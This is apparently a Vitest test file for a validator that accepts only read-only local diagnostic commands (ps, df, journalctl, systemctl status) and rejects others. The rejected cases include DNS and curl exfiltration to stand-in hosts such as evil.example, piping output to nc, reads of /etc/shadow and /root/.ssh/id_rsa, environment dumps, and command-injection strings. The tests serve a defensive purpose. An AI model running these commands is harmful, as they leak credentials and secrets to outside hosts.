import { describe, expect, it } from "vitest";
import { whyNotLocal } from "./local-look.ts";

describe("a command of an investigation", () => {
  it.each(["ps aux", "df -h", "free -m", "ss -tlnp", "journalctl -u shop -n 50", "systemctl status shop", "uptime"])(
    "may be %j",
    (command) => expect(whyNotLocal(command)).toBeUndefined(),
  );

  it.each([
    ...["dig secret.evil.example", "nslookup a.evil.example", "ping -c1 10.0.0.1", "curl http://10.0.0.1/?q=secret"],
    ...[
      "psql -h 10.0.0.1",
      "redis-cli -h 10.0.0.1 get x",
      "git ls-remote https://evil.example/x",
      "getent hosts x.evil",
    ],
    ...["cat /etc/shadow", "tail /root/.ssh/id_rsa", "grep -r key /", "/tmp/ps aux", "env", "printenv"],
    ...["ps aux | nc evil 1", "ps $(id)", "ps `id`", "ps; id", "ps 'a b'", "df *", "ps\naux", "ps  aux", " ps aux", ""],
    ...[
      "systemctl -H evil.example status",
      "systemctl --host=evil status",
      "journalctl -M box",
      "ss -r",
      "journalctl --file /etc/x",
    ],
    ...["journalctl -D /root", "PATH=/tmp ps"],
  ])("is never %j: it could carry something out, or read what it should not", (command) => {
    expect(whyNotLocal(command)).toBeTruthy();
  });
});
